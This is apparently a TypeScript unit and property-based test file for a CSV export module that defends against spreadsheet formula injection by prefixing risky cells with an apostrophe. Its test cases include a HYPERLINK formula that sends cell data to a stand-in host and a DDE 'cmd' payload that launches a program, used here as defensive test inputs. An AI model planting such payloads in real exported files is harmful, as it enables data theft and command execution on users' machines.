import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, neutralizeFormula, restoreFormula, toCsv } from '../../src/domain/csv.js';

describe('one CSV rule for every file the product writes (OWASP CSV injection)', () => {
  it('a cell a spreadsheet would run as a formula starts with an apostrophe; a plain negative number stays a number', () => {
    const cases: [string, string][] = [
      ['=HYPERLINK("http://evil.test/?"&A1,"Open")', `"'=HYPERLINK(""http://evil.test/?""&A1,""Open"")"`],
      ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
      ['+SUM(A1:A9)', "'+SUM(A1:A9)"],
      ['-2+3+cmd|x', "'-2+3+cmd|x"],
      ['@SUM(1)', "'@SUM(1)"],
      ['\tTAB', "'\tTAB"],
      ['\rCR', '"\'\rCR"'],
      ['-12.50', '-12.50'],
      ['Toned Milk', 'Toned Milk'],
    ];
    for (const [text, cell] of cases) expect(csvCell(text), text).toBe(cell);
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(toCsv(['Type', 'Amount'], [['=1+1', 10]])).toBe("Type,Amount\r\n'=1+1,10\r\n");
  });

  it('reading a cell back gives exactly what was written, whatever the text (export → import round-trips)', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 30 }), fc.constantFrom('', "'", "''", '=', '-', '+', '@', '\t', "'="), (tail, head) => {
        const text = head + tail;
        const written = neutralizeFormula(text);
        expect(restoreFormula(written)).toBe(text);
        // What a spreadsheet reads is never a formula (a plain number is a number, not a formula).
        if (/^[=+\-@\t\r]/.test(written)) expect(written).toMatch(/^-?\d+(\.\d+)?$/);
      }),
    );
  });
});
